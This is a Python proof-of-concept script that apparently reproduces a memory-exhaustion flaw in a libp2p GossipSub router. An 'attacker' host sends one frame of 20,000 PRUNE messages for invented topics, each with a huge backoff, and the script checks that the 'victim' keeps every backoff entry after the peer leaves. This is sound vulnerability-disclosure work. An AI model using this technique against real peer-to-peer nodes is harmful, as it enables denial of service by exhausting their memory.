"""PRUNE (and IHAVE, GRAFT) for made-up topics are remembered for ever, one entry each."""

import sys

import trio
from libp2p import new_host
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.gossipsub import GossipSub
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import Pubsub
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

MESHSUB = "/meshsub/1.1.0"
TOPICS = 20_000


async def main():
    listen = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
    victim, attacker = new_host(), new_host()
    router = GossipSub([MESHSUB], 6, 4, 12, heartbeat_interval=1)
    pubsub = Pubsub(victim, router)
    attacker.set_stream_handler(MESHSUB, lambda _stream: trio.sleep_forever())
    async with victim.run(listen), attacker.run(listen):
        async with background_trio_service(pubsub), background_trio_service(router):
            await pubsub.wait_until_ready()
            await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
            stream = await attacker.new_stream(victim.get_id(), [MESHSUB])
            prunes = [
                rpc_pb2.ControlPrune(topicID=f"{n:024}", backoff=2**63) for n in range(TOPICS)
            ]
            rpc = rpc_pb2.RPC(control=rpc_pb2.ControlMessage(prune=prunes))
            await stream.write(encode_varint_prefixed(rpc.SerializeToString()))
            with trio.move_on_after(10):
                while len(router.back_off) < TOPICS:
                    await trio.sleep(0.1)
            await attacker.disconnect(victim.get_id())
            # Heartbeats and the peer's departure clear nothing.
            await trio.sleep(3)
            kept = len(router.back_off)
    print(f"one frame with {TOPICS} PRUNEs; 3 s after the peer left, {kept} back-offs are kept")
    return 0 if kept == TOPICS else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
